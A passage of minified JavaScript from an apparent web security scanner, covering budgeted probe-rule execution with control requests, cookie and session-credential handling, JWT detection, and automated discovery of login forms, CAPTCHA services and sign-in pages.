return result?.state === "ran" && result.leftOut !== null ? [ result.leftOut ] : [];
}
function isUnrequested(id, {probes: probes, skipped: skipped, unsent: unsent = 0}) {
const family = EXPOSURE_FAMILIES.find(name => id === `exposure.${name}`);
if (family === undefined || unsent === 0) return false;
return skipped.includes(family) && !probes.some(probe => probe.family === family);
}
function exposureLimit(id, {skipped: skipped, unsent: unsent = 0, requestsMax: requestsMax = 0}) {
const family = EXPOSURE_FAMILIES.find(name => id === `exposure.${name}`);
const {length: length} = family === undefined ? skipped : skipped.filter(name => name === family);
if (length === 0) return [];
const what = `${(0, shared_text.LS)(length, "path was", "paths were")} not requested`;
const limit = unsent > 0 ? "the scan budget ended" : `limit of ${(0, shared_text.B4)(requestsMax)} requests for exposed files`;
return [ `${limit}; ${what}` ];
}
async function redirectNote(check, store) {
if (!check.needs.includes("crawl")) return "";
const landing = await store.gather("landing");
if (landing.state !== "available" || landing.value.leavesTo === null) return "";
const origin = URL.parse(landing.value.leavesTo)?.origin ?? "another host";
return `; the start page redirects to ${origin.slice(0, 200)}, which is a separate target`;
}
function outcome_named({meta: {id: id, title: title, subject: subject, rating: rating}}) {
return {
check_id: id,
title: title,
...subject === undefined ? {} : {
subject: subject
},
severity: rating.severity
};
}
const PHASES = [ [ "crawl", "crawl" ], [ "views", "browser" ], [ "active", "probe" ], [ "access", "probe" ] ];
class ProgressMeter {
#report;
#budget;
#open=new Set;
#phase="connect";
#findings=0;
constructor(report, budget) {
this.#report = report;
this.#budget = budget;
}
enter(phase) {
this.#phase = phase;
this.tick();
}
follow(kind, complete) {
this.#open.add(kind);
void complete.then(() => {
this.#open.delete(kind);
this.#advance();
});
}
followed() {
this.#advance();
}
found(findings) {
this.#findings = findings;
this.tick();
}
tick() {
const {requests: requests, requestsMax: requestsMax} = this.#budget;
this.#report({
phase: this.#phase,
requests: requests,
requestsMax: requestsMax,
findings: this.#findings
});
}
#advance() {
this.enter(PHASES.find(([kind]) => this.#open.has(kind))?.[1] ?? "check");
}
}
var registry = __webpack_require__(65280);
var linear_pattern = __webpack_require__(94845);
const site_view_TEXT_MAX = 64 * 1024;
const RESPONSES_MAX = 200;
class SiteView {
responses;
paths;
parameters;
#technologies;
#words;
constructor(crawl) {
const {pages: pages = [], resources: resources = [], redirects: redirects = [], errorPages: errorPages = [], parameters: parameters = []} = crawl ?? {};
this.responses = [ ...pages.map(({exchange: exchange}) => exchange), ...redirects, ...errorPages, ...resources ];
this.paths = [ ...new Set(pages.map(({url: url}) => new URL(url).pathname)) ];
const named = parameters.flatMap(point => point.kind === "query" ? [ {
path: new URL(point.request.url).pathname,
name: point.name
} ] : []);
this.parameters = [ ...new Map(named.map(one => [ JSON.stringify(one), one ])).values() ];
this.#technologies = (0, web_technologies.m)(crawl);
}
refusal({technology: technology, product: product, seen: seen, path: path, scope: scope}) {
if (scope === "all") return "it runs only with `checks-scope: all`";
if (technology !== undefined && !technology.some(one => this.#technologies.has(one))) return `the site does not show ${technology.join(" or ")}`;
if (product !== undefined && !product.some(name => this.#shows(name))) return `the site does not show ${product.join(" or ")}`;
if (path !== undefined && !this.paths.some(one => (0, linear_pattern.G)(path, false)(one) !== null)) return "no path of the site matches `when`";
return seen === undefined || this.#hasSeen(seen) ? null : "no response of the site matches `when`";
}
#hasSeen(condition) {
const matches = (0, rules_condition.Ke)(condition, linear_pattern.G);
return this.responses.some(({request: request, response: response}) => matches(new rules_condition.B7(response, new URL(request.url).pathname, 0, site_view_TEXT_MAX), new Map));
}
#shows(name) {
this.#words ??= this.responses.slice(0, RESPONSES_MAX).map(({response: response}) => worded(`${response.headers.flat().join(" ")} ${response.text.slice(0, site_view_TEXT_MAX)}`)).join("");
return this.#words.includes(worded(name));
}
}
function worded(text) {
return ` ${text.toLowerCase().replace(/[^a-z0-9]+/g, " ").trim()} `;
}
var format = __webpack_require__(89440);
var judge = __webpack_require__(90248);
const REQUESTS_MAX = 5e3;
const probe_rule_REDIRECTS_MAX = 3;
const probe_rule_BYTES_MAX = 256 * 1024;
const REPEATED_MIN = 4;
class RuleRequests {
context;
token;
#sent=new Set;
constructor(context) {
this.context = context;
this.token = context.token(12);
}
get end() {
if (this.context.signal.aborted || this.context.room("active").milliseconds === 0) return "budget: the time of the scan ended before this rule was done";
return this.#sent.size < REQUESTS_MAX ? null : `budget: the rules of a scan send at most ${REQUESTS_MAX} requests`;
}
async send(path, request, found, sent) {
const first = await this.#send(path, request, found, sent);
return request.redirects === true ? this.#follow(first, request, found, sent) : first;
}
async #follow(first, request, found, sent) {
let attempt = first;
for (let hops = 0; hops < probe_rule_REDIRECTS_MAX && (0, http.m_)(attempt); hops += 1) {
const {status: status, headers: headers} = attempt.response;
const to = URL.parse((0, http.wx)(headers, "location") ?? "", attempt.request.url);
if (status < 300 || status > 399 || to?.origin !== this.context.target.origin || this.end !== null) break;
attempt = await this.#send(to.pathname + to.search, request, found, sent);
}
return attempt;
}
async #send(path, {method: method = "GET", headers: headers = {}, body: body, as: as = "anonymous"}, found, sent) {
const given = Object.entries(headers).map(([name, value]) => [ name, probe_rule_filled(value, found).replace(/[\r\n]/g, " ") ]);
const own = body === undefined ? undefined : probe_rule_filled(body, found);
this.#sent.add(JSON.stringify([ method, path, given, own, as ]));
const attempt = await this.context.fetch({
method: method,
url: path,
headers: given,
...own === undefined ? {} : {
body: own
},
maxBytes: probe_rule_BYTES_MAX,
identity: as === "anonymous" ? "none" : as
});
sent.push(attempt);
return attempt;
}
}
class RuleRun {
sent=[];
#rule;
#requests;
#view;
#judge;
#hits=[];
#failures=[];
#left=format.$q;
#answers=0;
#leftOut=null;
#end=null;
constructor(rule, requests, view) {
this.#rule = rule;
this.#requests = requests;
this.#view = view;
this.#judge = (0, judge.P)(rule);
}
async result() {
const {request: request, on: on} = this.#rule;
const refusal = this.#refusal();
if (refusal !== null) return {
state: "not_applicable",
reason: refusal
};
if (on === "every-response") this.#judgeSeen(); else for (const values of this.#starts()) await this.#chain(request ?? [], 0, values, []);
return this.#outcome();
}
#outcome() {
const [failure] = this.#failures.flatMap(attempt => (0, http.m_)(attempt) ? [] : [ attempt.failure ]);
if (this.#hits.length === 0 && this.#end !== null) return {
state: "failed",
reason: this.#end
};
if (this.#answers === 0 && failure?.code === "blocked") return {
state: "not_applicable",
reason: `the request is ${failure.message}`
};
if (this.#answers === 0 && failure !== undefined) return {
state: "failed",
reason: `${failure.code}: ${failure.message}`
};
const unanswered = failure === undefined ? null : `a request got no response (${failure.message})`;
return {
state: "ran",
hits: this.#hits,
leftOut: this.#end ?? this.#leftOut ?? unanswered
};
}
#refusal() {
const {request: request = [], on: on} = this.#rule;
const {identities: identities, options: options, ownershipProven: ownershipProven} = this.#requests.context;
const missing = request.flatMap(({as: as}) => as ?? []).find(name => name !== "anonymous" && !identities.includes(name));
if (missing !== undefined) return `the scan is not signed in as ${missing}`;
if (request.some(({method: method}) => method === "POST") && !(options.active_post === true && ownershipProven)) return "it sends POST, which needs `active-post` and a target that is yours";
const places = on === "parameter" ? this.#view.parameters : on === undefined || on === "start" ? null : this.#view.responses;
return places?.length === 0 ? `the crawl saw no ${on === "parameter" ? "parameter" : "response"}` : null;
}
#judgeSeen() {
for (const exchange of this.#view.responses) {
this.#answers += 1;
const {pathname: pathname, search: search} = new URL(exchange.request.url);
const sighting = this.#judge(exchange.response, pathname);
if (sighting !== null) this.#hits.push(hitOf(pathname + search, exchange, sighting, []));
}
}
#starts() {
const {on: on, values: values = {}} = this.#rule;
const places = on === "parameter" ? this.#view.parameters.map(({path: path, name: name}) => ({
path: path.slice(1),
parameter: encodeURIComponent(name)
})) : on === "path" ? this.#view.paths.map(path => ({
path: path.slice(1)
})) : [ {} ];
const {host: host} = new URL(this.#requests.context.target.origin);
return Object.entries(values).reduce((all, [name, list]) => all.flatMap(one => list.map(value => ({
...one,
[name]: String(value)
}))), places).map(one => new Map(Object.entries({
...one,
host: host
}).map(([name, value]) => [ name, [ value ] ])));
}
async #chain(requests, index, values, before) {
const request = requests[index];
if (request === undefined) return;
const isLast = index === requests.length - 1;
const accepts = (0, judge.c)(request);
for (const template of request.path) {
const found = new Map(values);
const path = probe_rule_pathOf(template, found);
const attempt = await this.#send(path, request, found);
if (attempt === null || !(0, http.m_)(attempt) || accepts(attempt.response, path, found) === null) continue;
if (isLast) await this.#judgeLast(path, request, attempt, found, before); else return this.#chain(requests, index + 1, found, [ ...before, attempt ]);
}
}
async #send(path, request, found) {
this.#end ??= this.#requests.end;
if (this.#left === 0) this.#leftOut = `limit of ${format.$q} requests of a rule`;
if (this.#end !== null || this.#left === 0) return null;
this.#left -= 1;
const attempt = await this.#requests.send(path, request, found, this.sent);
if ((0, http.m_)(attempt)) this.#answers += 1; else if (attempt.failure.code === "budget") this.#end ??= `budget: ${attempt.failure.message}`; else this.#failures.push(attempt);
return attempt;
}
async #judgeLast(path, request, exchange, found, before) {
const values = new Map(found);
const sighting = this.#judge(exchange.response, path, found);
if (sighting === null) return;
const {control: control = "sibling"} = this.#rule;
if (control === "none") {
this.#hits.push(hitOf(path, exchange, sighting, before, true));
return;
}
const bare = path.split("?")[0] ?? "";
const others = [ siblingPath(path, this.#requests.token), ...control === "strict" ? [ "/" ] : [] ];
const controls = [];
for (const other of new Set(others)) {
if (other === path) continue;
const attempt = await this.#requests.send(other, request, values, this.sent);
controls.push(attempt);
if ((0, http.m_)(attempt) && this.#judge(attempt.response, other, new Map(values)) !== null) return;
}
const [sibling] = controls;
if (control === "strict" && sibling !== undefined && this.#isRepeated(path, request, exchange, sibling, values)) return;
const isUncertain = controls.some(one => !(0, http.m_)(one) && [ "budget", "blocked" ].includes(one.failure.code));
const isStart = bare === "/";
const isTentative = isUncertain || control === "strict" && isStart;
this.#hits.push(hitOf(path, exchange, sighting, [ ...before, ...controls.slice(0, 1) ], isTentative));
}
#isRepeated(path, request, {response: response}, sibling, values) {
if (!(0, http.m_)(sibling) || sibling.response.status !== response.status) return false;
const sent = [ path, ...Object.values(request.headers ?? {}), request.body ?? "" ].map(text => probe_rule_filled(text, values));
return this.#judge(probe_rule_without(response, sent.flatMap(probe_rule_partsOf)), path, new Map(values)) === null;
}
}
function hitOf(path, exchange, {proof: proof, title: title, severity: severity, quote: quote = []}, before, isTentative = false) {
return {
path: path,
proof: proof,
quote: quote,
exchange: exchange,
before: before,
isTentative: isTentative,
...title === undefined ? {} : {
title: title
},
...severity === undefined ? {} : {
severity: severity
}
};
}
function probe_rule_filled(template, found) {
return template.replace(/\{\{(\w{1,40})\}\}/g, (_, name) => found.get(name)?.[0] ?? "");
}
function probe_rule_pathOf(template, found) {
const path = probe_rule_filled(template, found).replace(/[^\w.~!$&'()*+,;=:@/?%-]/gu, encodeURIComponent);
return path.replace(/^\/{2,}/, "/");
}
function probe_rule_partsOf(text) {
const plain = probe_rule_decoded(text);
return [ text, plain, ...plain.split(/[/?&=;,\s]+/) ].filter(part => part.length >= REPEATED_MIN);
}
function probe_rule_decoded(text) {
try {
return decodeURIComponent(text);
} catch {
return text;
}
}
function probe_rule_without(response, texts) {
const cut = text => texts.reduce((rest, part) => rest.replaceAll(part, ""), text);
const headers = response.headers.map(([name, value]) => [ name, cut(value) ]);
return {
...response,
headers: headers,
text: cut(response.text)
};
}
const gather_rules_TURN_MS = 5;
const gather_rules_CONCURRENCY = 8;
function gatherRules(rules, onRule = () => {}) {
return async context => {
const results = new Map;
const requests = new RuleRequests(context);
const isAll = context.options.checks_scope === "all";
const needsCrawl = ({on: on = "start", when: when}) => on !== "start" || when !== undefined && !isAll;
let turn = performance.now();
const one = async (rule, view) => {
const reason = isAll || rule.when === undefined ? null : view.refusal(rule.when);
if (reason !== null) return {
state: "not_applicable",
reason: reason
};
const run = new RuleRun(rule, requests, view);
const result = await run.result();
onRule(rule.id, run.sent);
return result;
};
const run = async (chosen, view) => {
const waiting = chosen.toSorted((a, b) => gather_rules_keyOf(a) < gather_rules_keyOf(b) ? -1 : 1);
const work = async () => {
for (let rule = waiting.shift(); rule !== undefined; rule = waiting.shift()) {
results.set(rule.id, await one(rule, view));
if (performance.now() - turn > gather_rules_TURN_MS) {
await (0, external_node_timers_promises_.setImmediate)();
turn = performance.now();
}
}
};
await Promise.all(Array.from({
length: gather_rules_CONCURRENCY
}, work));
};
await run(rules.filter(rule => !needsCrawl(rule)), new SiteView(null));
const later = rules.filter(needsCrawl);
if (later.length > 0) {
const crawl = await context.gather("crawl");
await run(later, new SiteView(crawl.state === "available" ? crawl.value : null));
}
return {
state: "available",
value: {
results: results
}
};
};
}
function gather_rules_keyOf({id: id, request: request}) {
return `${request?.[0]?.path[0] ?? ""} ${id}`;
}
var rule_check = __webpack_require__(61588);
var login_method = __webpack_require__(28566);
const cookie_jar_COOKIES_MAX = 180;
const HEADER_MAX = 16384;
class CookieJar {
#cookies=new Map;
#now;
#host;
constructor(host, now) {
this.#host = host;
this.#now = now;
}
store(url, fields) {
const {hostname: hostname, pathname: pathname, protocol: protocol} = new URL(url);
for (const field of fields.slice(0, cookie_jar_COOKIES_MAX)) {
const cookie = (0, set_cookie.s)(field);
if (cookie === null || cookie.name === "" || (0, set_cookie.G)(cookie).length > 0) continue;
if (cookie.secure && protocol !== "https:" && !isTrustworthy(hostname)) continue;
const domain = cookie.domain ?? this.#host;
if (!domainMatches(this.#host, domain)) continue;
const {maxAge: maxAge, expires: expires} = cookie;
this.#put({
name: cookie.name,
value: cookie.value,
domain: domain,
isHostOnly: cookie.domain === null,
path: cookie.path ?? defaultPath(pathname),
isSecure: cookie.secure,
expires: maxAge === undefined ? expires ?? null : this.#now() + maxAge * 1e3
});
}
}
add({name: name, value: value, domain: domain, path: path, expires: expires, secure: secure}) {
const plain = domain?.toLowerCase().replace(/^\./, "");
if (plain !== undefined && !domainMatches(this.#host, plain)) return;
this.#put({
name: name,
value: value,
domain: plain ?? this.#host,
isHostOnly: plain === undefined,
path: path ?? "/",
isSecure: secure === true,
expires: expires === undefined || expires < 0 ? null : expires * 1e3
});
}
headerFor(url) {
const {pathname: pathname, protocol: protocol, hostname: hostname} = new URL(url);
const isSecure = protocol === "https:" || isTrustworthy(hostname);
const sent = [ ...this.#live() ].filter(cookie => pathMatches(pathname, cookie.path) && (isSecure || !cookie.isSecure)).sort((one, other) => other.path.length - one.path.length).map(({name: name, value: value}) => `${name}=${value}`);
while (sent.join("; ").length > HEADER_MAX) sent.pop();
return sent.length === 0 ? null : sent.join("; ");
}
value(name) {
return this.#live().find(cookie => cookie.name === name)?.value ?? null;
}
values() {
return this.#live().map(({value: value}) => value);
}
get size() {
return this.#live().length;
}
#live() {
const now = this.#now();
return [ ...this.#cookies.values() ].filter(({expires: expires}) => expires === null || expires > now);
}
#put(cookie) {
const key = JSON.stringify([ cookie.name, cookie.domain, cookie.path ]);
this.#cookies.delete(key);
if (cookie.expires !== null && cookie.expires <= this.#now()) return;
if (this.#cookies.size < cookie_jar_COOKIES_MAX) this.#cookies.set(key, cookie);
}
}
function isTrustworthy(hostname) {
return /^(?:localhost|.{1,200}\.localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[::1\])$/.test(hostname);
}
function domainMatches(host, domain) {
if (host === domain) return true;
return domain.includes(".") && host.endsWith(`.${domain}`) && !/^[\d.]+$|:/.test(host);
}
function defaultPath(pathname) {
const end = pathname.lastIndexOf("/");
return end <= 0 ? "/" : pathname.slice(0, end);
}
function pathMatches(pathname, path) {
if (pathname === path) return true;
return pathname.startsWith(path) && (path.endsWith("/") || pathname[path.length] === "/");
}
const ISSUED_LENGTH_MIN = 6;
const session_credentials_TOKENS_MAX = 20;
class SessionCredentials {
cookies;
authorization=null;
tokenHeaders=[];
#host;
#storage=null;
#login;
#issued=new Map;
#ofScripts=new Map;
constructor(host, login, now) {
this.#login = login;
this.#host = host;
this.cookies = new CookieJar(host, now);
for (const cookie of login.cookies ?? []) this.cookies.add(cookie);
if (login.local_storage !== undefined) this.keep({
localStorage: login.local_storage,
sessionStorage: {}
});
}
headersFor(url) {
const cookie = this.cookies.headerFor(url);
const given = Object.entries(this.#login.headers ?? {});
const isGiven = given.some(([name]) => name.toLowerCase() === "authorization");
return [ ...given, ...this.authorization === null || isGiven ? [] : [ [ "Authorization", this.authorization ] ], ...this.tokenHeaders, ...cookie === null ? [] : [ [ "Cookie", cookie ] ] ];
}
carry(name, value) {
const isAuthorization = name.toLowerCase() === "authorization";
this.authorization = isAuthorization ? value : null;
this.tokenHeaders = isAuthorization ? [] : [ [ name, value ] ];
}
store(url, headers) {
const fields = (0, http.UE)(headers, "set-cookie");
if (fields.length === 0) return;
this.cookies.store(url, fields);
const ofScripts = new Set(this.#ofScripts.values());
for (const value of this.cookies.values()) if (!ofScripts.has(value)) this.#note(value);
}
add(name, value) {
this.cookies.add({
name: name,
value: value
});
this.#ofScripts.set(name, value);
this.#issue(value);
}
get storage() {
return this.#storage;
}
keep(storage) {
this.#storage = {
...storage,
cookies: Object.fromEntries(this.#ofScripts)
};
const {localStorage: localStorage, sessionStorage: sessionStorage} = storage;
for (const value of [ ...Object.values(localStorage), ...Object.values(sessionStorage) ]) this.#issue(value);
}
#issue(text) {
const parts = text.slice(0, 16384).match(/[\w.~+=-]{20,}/g) ?? [];
for (const part of parts.slice(0, session_credentials_TOKENS_MAX)) if (/\d/.test(part) && !this.#host.includes(part)) this.#note(part);
}
#note(value) {
if (value.length >= ISSUED_LENGTH_MIN && !this.#issued.has(value)) this.#issued.set(value, (0, 
secret_values.$z)(value));
}
secrets() {
return [ ...(0, secret_values.ob)(this.#login), ...(0, secret_values.hT)(this.authorization === null ? {} : {
Authorization: this.authorization
}), ...(0, secret_values.hT)(Object.fromEntries(this.tokenHeaders)), ...(0, secret_values.KT)("COOKIE", [ ...this.#issued.values() ].flat()) ];
}
}
const session_token_HEADERS_MAX = 50;
function sessionTokenIn(headers) {
for (const [header, value] of headers.slice(0, session_token_HEADERS_MAX)) {
const text = value.slice(0, 32768);
const match = /(?<![\w.-])eyJ[\w-]{8,8000}\.eyJ[\w-]{2,8000}\.[\w-]{0,2000}(?![\w.-])/.exec(text);
if (match === null) continue;
const [token] = match;
return {
header: header,
before: text.slice(0, match.index),
token: token,
after: text.slice(match.index + token.length)
};
}
return null;
}
const read_fields_FIELDS_MAX = 200;
const SUBMITS = new Set([ "submit", "image" ]);
const NO_FIELDS = new Set([ ...SUBMITS, "button", "reset", "file" ]);
function read_fields_formsOf({markupForms: markupForms}) {
return markupForms.map(({controls: controls, ...form}) => ({
...form,
fields: controls.filter(({type: type}) => !NO_FIELDS.has(type)).slice(0, read_fields_FIELDS_MAX),
buttons: controls.filter(({type: type}) => SUBMITS.has(type)).slice(0, read_fields_FIELDS_MAX)
}));
}
function login_form_kindOf({kind: kind}) {
return kind === "credentials" ? "password" : kind;
}
function isRepeated(kind, sent) {
return sent.has(kind) || kind === "username" && sent.has("password");
}
const USER_TYPES = new Set([ "text", "email", "tel", "username", "" ]);
const CODE_TYPES = new Set([ "text", "tel", "number", "password", "" ]);
function loginStep(exchange, isSignIn = false) {
const document = (0, html_document.lM)(exchange);
if (document === null) return null;
const {pathname: pathname} = new URL(exchange.request.url);
return stepOf(read_fields_formsOf(document), isSignIn || (0, sign_in_page.A$)(pathname), [ document.title, document.headingText ]);
}
function stepOf(forms, isNamed, titles) {
const code = forms.map(codeStep).find(step => step !== null) ?? null;
const withPassword = [ ...forms ].sort((one, other) => login_form_rank(one) - login_form_rank(other)).map(passwordStep);
const step = withPassword.find(one => one !== null) ?? null;
if (step !== null && !(step.kind === "password" && code !== null)) return step;
if (code !== null) return code;
const isSignIn = isNamed || titles.some(sign_in_page.Hq) || forms.some(({fields: fields}) => fields.some(isPassword));
return isSignIn ? forms.map(usernameStep).find(one => one !== null) ?? null : null;
}
function isPassword({type: type}) {
return type === "password";
}
function passwordsOf({fields: fields}) {
return fields.filter(field => isPassword(field) && !field.isHidden);
}
function asksForPassword(exchange) {
const step = loginStep(exchange);
return step !== null && !step.form.isHidden && step.kind !== "code" && (step.kind !== "password" || step.password.autocomplete !== "new-password");
}
function login_form_rank(form) {
if (form.isHidden) return 4;
const purpose = `${form.action ?? ""} ${form.buttons.map(({text: text}) => text).join(" ")}`.toLowerCase().slice(0, 2e3);
if (passwordsOf(form).length !== 1) return 3;
if ((0, data_names.cP)("not-sign-in-form", purpose) && !/log[\s_-]?in|sign[\s_-]?in|session/.test(purpose)) return 2;
return form.action === null ? 1 : 0;
}
function passwordStep(form) {
const passwords = passwordsOf(form);
const [password] = passwords;
if (password === undefined || passwords.length > 1) return null;
if (password.autocomplete === "one-time-code") return null;
const username = usernameIn(form, form.fields.indexOf(password));
return username === null ? {
kind: "password",
form: form,
password: password
} : {
kind: "credentials",
form: form,
username: username,
password: password
};
}
function usernameIn(form, before) {
const texts = form.fields.filter(field => USER_TYPES.has(field.type) && field.isSent && !field.isHidden && !(0, 
data_names.cP)("not-user-label", field.hint));
const named = texts.filter(({autocomplete: autocomplete}) => /\b(?:username|email)\b/.test(autocomplete));
const hinted = texts.filter(({hint: hint, type: type}) => type === "email" || (0, 
data_names.cP)("user-label", hint));
const previous = texts.filter(field => form.fields.indexOf(field) < before);
return named[0] ?? hinted[0] ?? previous.at(-1) ?? null;
}
function usernameStep(form) {
const texts = form.fields.filter(field => USER_TYPES.has(field.type) && !field.isHidden);
const username = usernameIn(form, texts.length === 1 ? form.fields.length : 0);
if (username === null) return null;
const purpose = `${form.action ?? ""} ${form.buttons.map(({text: text}) => text).join(" ")}`.toLowerCase().slice(0, 2e3);
const isStep = form.buttons.length <= 1 || form.buttons.some(button => (0, data_names.cP)("sign-in-button", labelOf(button)));
return isStep && !(0, data_names.cP)("not-sign-in-form", purpose) ? {
kind: "username",
form: form,
username: username
} : null;
}
function codeStep(form) {
if (form.fields.some(({type: type, hint: hint}) => type === "password" && !(0, data_names.cP)("code-label", hint))) return null;
const code = form.fields.find(({type: type, hint: hint, autocomplete: autocomplete, isSent: isSent, isHidden: isHidden}) => isSent && !isHidden && CODE_TYPES.has(type) && (autocomplete === "one-time-code" || (0, 
data_names.cP)("code-label", hint) && !(0, data_names.cP)("not-code-label", hint)));
return code === undefined ? null : {
kind: "code",
form: form,
code: code
};
}
function hasCaptcha(exchange) {
const step = loginStep(exchange);
return step?.kind === "credentials" && asksForPicture(step) || hasCaptchaService(exchange);
}
function asksForPicture({form: form, username: username, password: password}) {
const after = form.fields.slice(form.fields.indexOf(password) + 1);
return form.hasImage && after.some(field => USER_TYPES.has(field.type) && field !== username && field.value === "" && !field.isHidden);
}
function hasCaptchaService({response: response}) {
return /g-recaptcha|grecaptcha|recaptcha\/(?:api|enterprise)\.js|h-captcha|hcaptcha\.com|cf-turnstile|challenges\.cloudflare\.com|friendlycaptcha|frc-captcha|altcha|name=["']?\w{0,20}captcha/i.test(response.text.slice(0, 512 * 1024));
}
function filledForm(form, values) {
const fields = form.fields.filter(field => field.name !== "" && (field.isSent || values.has(field))).map(field => [ field.name, values.get(field) ?? field.value ]);
const button = submitButton(form);
return button === null || button.name === "" ? fields : [ ...fields, [ button.name, button.value ] ];
}
function submitButton({buttons: buttons}) {
return buttonToPress(buttons, labelOf) ?? buttons[0] ?? null;
}
function buttonToPress(buttons, label) {
const useful = buttons.filter(button => !(0, data_names.cP)("other-button", label(button)));
return useful.find(button => (0, data_names.cP)("sign-in-button", label(button))) ?? useful[0] ?? null;
}
function labelOf({text: text, value: value}) {
return text === value.toLowerCase() ? text : `${text} ${value.toLowerCase()}`.slice(0, 300);
}
const USUAL = [ "/api/login", "/api/auth/login", "/api/v1/auth/login", "/auth/login" ];
const json_login_ENDPOINTS_MAX = 6;
function signInEndpoints(scripts) {
const named = scripts.flatMap(script => endpointsOf(script)).filter(path => (0, 
data_names.cP)("sign-in-endpoint", path) && !(0, data_names.cP)("not-sign-in-endpoint", path));
const rank = path => /log-?in|sign-?in|authenticate/i.test(path) ? 0 : 1;
const sorted = [ ...new Set(named) ].sort((one, other) => rank(one) - rank(other));
return [ ...new Set([ ...sorted, ...USUAL ]) ].slice(0, json_login_ENDPOINTS_MAX);
}
function userNames(scripts, path, username) {
const usual = username.includes("@") ? [ "email", "username" ] : [ "username", "email" ];
for (const {response: response} of scripts) {
const text = response.text.slice(0, 512 * 1024);
const at = text.indexOf(path);
if (at === -1) continue;
const near = text.slice(Math.max(0, at - 300), at + 500);
const named = /\b(username|user_name|userName|email|login|identifier|user)\s{0,3}:/.exec(near)?.[1];
if (named !== undefined) return [ ...new Set([ named, ...usual ]) ].slice(0, 2);
}
return usual;
}
function csrfHeaders(page, {cookies: cookies}) {
const meta = page === null ? undefined : (0, html_document.lM)(page)?.metas.find(({name: name}) => /^_?csrf-?token$|^csrf$/.test(name));
const xsrf = cookies.value("XSRF-TOKEN");
const django = cookies.value("csrftoken");
const headers = [ [ "X-CSRF-Token", meta?.content ], [ "X-XSRF-TOKEN", xsrf === null ? null : (0, 
shared_text.oF)(xsrf) ], [ "X-CSRFToken", django ] ];
return headers.flatMap(([name, value]) => typeof value === "string" && /^[\x21-\x7e]{1,4096}$/.test(value) ? [ [ name, value ] ] : []);
}
function asksForBasic({response: response}) {
return response.status === 401 && (0, http.UE)(response.headers, "www-authenticate").some(value => /(?:^|,)\s{0,5}basic\b/i.test(value.slice(0, 2e3)));
}
const login_places_LINKS_MAX = 6;
const login_places_FRAMES_MAX = 3;
const USUAL_PATHS = [ "/login", "/users/sign_in", "/accounts/login/", "/signin", "/sign-in", "/wp-login.php", "/auth/login", "/user/login", "/api/auth/signin", "/Identity/Account/Login", "/Account/Login", "/users/log_in", "/session/new", "/account/login", "/ucp.php?mode=login", "/login.php", "/admin/login/" ];
function signInLinks({links: links}) {
const found = links.filter(sign_in_page.RJ);
const ranked = found.map(link => ({
link: link,
rank: login_places_rankOf(link)
}));
ranked.sort((one, other) => one.rank - other.rank);
const byUrl = new Map(ranked.map(({link: link}) => [ link.url, link ]));
return [ ...byUrl.values() ].slice(0, login_places_LINKS_MAX);
}
const STAFF_RANK = 1e4;
const SEGMENT_RANK = 100;
function login_places_rankOf({url: url, text: text}) {
const path = new URL(url).pathname.slice(0, 2e3);
const segments = path.split("/").length;
const isStaff = (0, data_names.cP)("staff-page", path) || (0, data_names.cP)("staff-page", text.slice(0, 200));
return (isStaff ? STAFF_RANK : 0) + Math.min(segments, 50) * SEGMENT_RANK + Math.min(path.length, SEGMENT_RANK - 1);
}
function framesOf({links: links}) {
const frames = links.filter(({element: element}) => element === "frame" || element === "iframe");
return [ ...new Set(frames.map(({url: url}) => url)) ].slice(0, login_places_FRAMES_MAX);
}
function memberLinks({links: links}) {
const pages = links.filter(({element: element, url: url, text: text}) => element === "a" && !(0, 
sign_in_page.Cs)({
url: url,
text: text
}) && !(0, link_policy.Ch)(new URL(url)));
const likely = ({url: url, text: text}) => (0, data_names.cP)("member-page", new URL(url).pathname) || (0, 
data_names.cP)("member-page", text) ? 0 : 1;
const ranked = [ ...pages ].sort((one, other) => likely(one) - likely(other));
return [ ...new Set(ranked.map(({url: url}) => url)) ].slice(0, login_places_LINKS_MAX);
}
class SignInError extends Error {
code;
constructor(code, detail) {
super(detail.slice(0, 300));
this.name = "SignInError";
this.code = code;
}
}
const PASSWORDS_MAX = 2;
const sign_in_context_REDIRECTS_MAX = 8;
const sign_in_context_PAGE_BYTES = 1024 * 1024;
async function visit(context, request) {
const {identity: identity, target: target} = context;
let next = request;
for (let hop = 0; ;hop += 1) {
const attempt = await context.fetch({
identity: identity,
maxBytes: sign_in_context_PAGE_BYTES,
...next,
fresh: true
});
if (!(0, http.m_)(attempt)) return null;
const to = (0, redirect.E)(attempt);
if (to === null || hop >= sign_in_context_REDIRECTS_MAX) return {
page: attempt,
leavesTo: null
};
if (to.origin !== target.origin) return {
page: attempt,
leavesTo: to
};
const keepsMethod = attempt.response.status === 307 || attempt.response.status === 308;
next = keepsMethod ? {
...next,
url: to.href
} : {
identity: next.identity ?? identity,
url: to.href
};
}
}
function onTarget(context, reference) {
const url = URL.parse(reference, context.target.startUrl);
return url === null || url.origin !== context.target.origin ? null : url.href;
}
function sign_in_context_pathOf(url) {
const {pathname: pathname} = new URL(url);
return (0, shared_text.xv)(pathname, 100);
}
function sign_in_context_placeOf({target: target}, url) {
const {origin: origin} = URL.parse(url) ?? {
origin: target.origin
};
return origin === target.origin ? sign_in_context_pathOf(url) : `${origin.slice(0, 200)}${sign_in_context_pathOf(url)}`;
}
function providersOf({login: login, target: target}) {
return (login.identity_provider ?? []).filter(origin => origin !== target.origin);
}
function leftFor({login: login}, place, origin) {
const {identity_provider: named} = login;
return named === undefined ? new SignInError("sign_in_off_host", `${place} leads to ${origin}, another origin`) : new SignInError("sign_in_provider_other", `${place} leads to ${origin}, and identity-provider names ${named.join(", ")}`);
}
const find_login_page_PLACES_MAX = 3;
const BUSY = [ 429, 503 ];
async function* loginPages(context) {
const {url: url} = context.login;
if (url === undefined) yield* searchPages(context); else yield atAddress(context, url);
}
async function* searchPages(context) {
const start = await visit(context, {
url: context.target.startUrl
});
if (start === null) throw new SignInError("sign_in_page_not_found", "the start page did not respond");
const {status: status} = start.page.response;
if (BUSY.includes(status)) throw new SignInError("sign_in_page_not_found", `${sign_in_context_pathOf(start.page.request.url)} responds with ${status}`);
const atStart = find_login_page_judge(start.page, false);
const isForm = atStart !== null && atStart.kind !== "scripted";
if (isForm) yield atStart;
const document = (0, html_document.lM)(start.page);
if (document === null && (await context.describe()).signIns.length > 0) throw new SignInError("sign_in_page_not_found", "the start page is not HTML");
const search = new Search(context, start.page);
yield* search.all(document);
const scripted = [ ...search.scripted, ...atStart?.kind === "scripted" ? [ atStart ] : [] ];
const texts = scripted.map(({page: page}) => page.response.text);
